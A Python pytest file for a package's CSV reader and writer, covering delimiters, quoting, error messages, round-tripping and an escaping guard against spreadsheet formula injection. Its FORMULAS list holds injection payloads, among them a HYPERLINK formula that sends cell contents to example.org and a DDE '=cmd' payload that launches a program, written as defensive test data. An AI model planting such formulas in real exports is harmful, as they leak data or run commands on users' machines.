"""CSV files, read in whatever form others write them, and written in one."""

from __future__ import annotations

import csv
import itertools
import os
from pathlib import Path

import numpy as np
import pytest
from tests.refusals import refuses

import limbeck
from limbeck.csvfiles import csv_text, guarded, open_csv, write_csv


def _read(path: Path) -> tuple[list[str], str, list[tuple[int, list[str]]]]:
    with open_csv(path) as table:
        return table.header, table.delimiter, list(table.rows)


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_delimiters_quotes_marks_and_empty_lines(tmp_path: Path, delimiter: str) -> None:
    rows = [["name ", '"b;;,,\t\t"'], ['"two\nlines"', " 1"], ['"a ""word"""', ""]]
    (tmp_path / "t.csv").write_bytes(
        b"\xef\xbb\xbf" + "\r\n\r\n".join(delimiter.join(row) for row in rows).encode() + b"\r\n"
    )
    assert _read(tmp_path / "t.csv") == (
        ["name", "b;;,,"],  # what stands between quotation marks is not counted; the tabs at the end are blanks
        delimiter,
        [(4, ["two\nlines", " 1"]), (6, ['a "word"', ""])],
    )


def test_a_single_column_and_an_empty_file(tmp_path: Path) -> None:
    (tmp_path / "t.csv").write_text("name\na\n")
    assert _read(tmp_path / "t.csv") == (["name"], ",", [(2, ["a"])])
    (tmp_path / "t.csv").write_text("")
    assert _read(tmp_path / "t.csv") == ([], ",", [])


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"a,b\n1,2\n\n1\n", ", line 4: 1 cells, but the header has 2"),
        (b"a,b\n1,2,3\n", ", line 2: 3 cells, but the header has 2"),
        # Without this the last row's label would be all that follows.
        (b'a,b\n1,"x\n2,y\n', ", line 3: not a CSV file (unexpected end of data); look for a quotation mark"),
        (b'"a,b\n1,2\n', ", line 2: not a CSV file (unexpected end of data)"),
        (b'a,b\n"1"2,3\n', ", line 2: not a CSV file"),
        (b"a,b\n\xff,1\n", ": not a CSV file in UTF-8"),
        (b"a" * (2**22 + 1), ": has a line of more than 4,194,304 characters"),
    ],
)
def test_what_is_no_table_is_refused(tmp_path: Path, content: bytes, words: str) -> None:
    (tmp_path / "t.csv").write_bytes(content)
    refuses(lambda: _read(tmp_path / "t.csv"), f"{tmp_path / 't.csv'}{words}")


def test_what_is_no_file_is_refused(tmp_path: Path) -> None:
    refuses(lambda: _read(tmp_path / "none.csv"), "none.csv: cannot be read (No such file")
    refuses(lambda: _read(tmp_path), f"{tmp_path}: cannot be read (Is a directory)")
    os.mkfifo(tmp_path / "pipe.csv")
    refuses(lambda: _read(tmp_path / "pipe.csv"), "pipe.csv: is a pipe or a device")


def test_what_is_written_is_read_again(tmp_path: Path) -> None:
    rows = [["name", "x"], ['a, "b"', 0.1], ["two\nlines", None], ["ö", -1.5e-300]]
    write_csv(tmp_path / "new" / "t.csv", rows)
    header, delimiter, found = _read(tmp_path / "new" / "t.csv")
    assert (header, delimiter) == (rows[0], ",")
    assert [cells for _, cells in found] == [["" if cell is None else str(cell) for cell in row] for row in rows[1:]]
    with pytest.raises(ZeroDivisionError):
        write_csv(tmp_path / "new" / "t.csv", ([1 / number] for number in (1, 0)))
    assert _read(tmp_path / "new" / "t.csv")[0] == header


def test_names_that_are_not_utf_8_are_written(tmp_path: Path) -> None:
    write_csv(tmp_path / "t.csv", [["path"], [os.fsdecode(b"\xff.png")]])
    assert (tmp_path / "t.csv").read_text() == "path\n\\udcff.png\n"


# What OWASP lists, then texts that only look like it.
FORMULAS = (
    '=HYPERLINK("http://example.org/?"&A1,"open")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "-name",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "-",
    "'=1",
    "''-a",
    "'-1",
)
PLAIN = ("-1", "-1.5", "+3", "-.5e-7", "-inf", "nan", "a=b", "a-1", " =1", "'a", "'", "", "ö", "a;=1", "it's")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_a_quote_before_it(text: str) -> None:
    assert guarded(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN)
def test_numbers_and_what_runs_nowhere_stay(text: str) -> None:
    assert guarded(text) == text


def test_every_text_is_read_again_as_it_was(tmp_path: Path) -> None:
    alphabet = ["", "'", "=", "-", "1", ".", "@", "a", ";", ",", '"', "\t", "\n", " "]
    texts = [*FORMULAS, *PLAIN, *map("".join, itertools.product(alphabet, repeat=3))]
    write_csv(tmp_path / "t.csv", [["text", "=name", "-1"], *([text, 1, text] for text in texts)])
    header, _, rows = _read(tmp_path / "t.csv")
    assert header == ["text", "=name", "-1"]
    assert [cells for _, cells in rows] == [[text, "1", text] for text in texts]
    # As a spreadsheet has them: no cell but numbers begins as a formula does.
    for row in csv.reader((tmp_path / "t.csv").read_text().splitlines(keepends=True)):
        for cell in row:
            if cell.startswith(tuple("=+-@\t\r\n＝")):
                float(cell)


def test_numbers_and_rows_of_one_empty_cell() -> None:
    row = (-1.5, np.float64(-0.25), np.float32(-0.5), np.int64(-3), True, None, "-3", float("-inf"))
    assert csv_text([row]) == "-1.5,-0.25,-0.5,-3,True,,-3,-inf\n"
    assert csv_text([["a"], [None], ["b"]]) == 'a\n""\nb\n'
    assert csv_text([["a;b", "a\tb"]]) == '"a;b","a\tb"\n'


def test_nothing_else_writes_csv() -> None:
    home = Path(limbeck.__file__).parent
    users = {
        file.relative_to(home).as_posix() for file in home.rglob("*.py") if "import csv\n" in file.read_text("utf-8")
    }
    assert users == {"csvfiles.py", "metric/sets/cars.py"}  # the latter reads alone, lists without a header
